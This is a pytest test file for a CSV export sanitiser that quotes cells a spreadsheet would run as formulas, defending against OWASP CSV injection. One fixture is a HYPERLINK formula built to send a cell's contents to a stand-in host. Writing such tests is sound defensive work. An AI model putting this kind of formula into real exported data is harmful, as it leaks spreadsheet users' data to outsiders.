"""CSV cells a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from embedlab.errors import WorkspaceError
from embedlab.io.csv_safe import csv_text, neutralise, write_csv_file

FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"click")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"])
def test_formula_starts_get_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "a=b", " =1", "", None, -2, 1.5, 0])
def test_other_cells_and_numbers_are_unchanged(cell: object) -> None:
    assert neutralise(cell) == cell


def test_csv_text_round_trips_as_text() -> None:
    text = csv_text(["id", "score"], [[FORMULA, -0.5], ["ok", 1]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["id", "score"], ["'" + FORMULA, "-0.5"], ["ok", "1"]]


def test_write_csv_file_is_atomic_and_says_where(tmp_path: Path) -> None:
    path = write_csv_file(tmp_path / "out" / "x.csv", ["id", "n"], [{"id": "@x"}, {"n": 3}])
    assert path.read_text(encoding="utf-8").splitlines() == ["id,n", "'@x,", ",3"]
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(WorkspaceError, match="Cannot write"):
        write_csv_file(blocker / "x.csv", ["id"], [])
    assert not list(tmp_path.glob("**/*.part"))
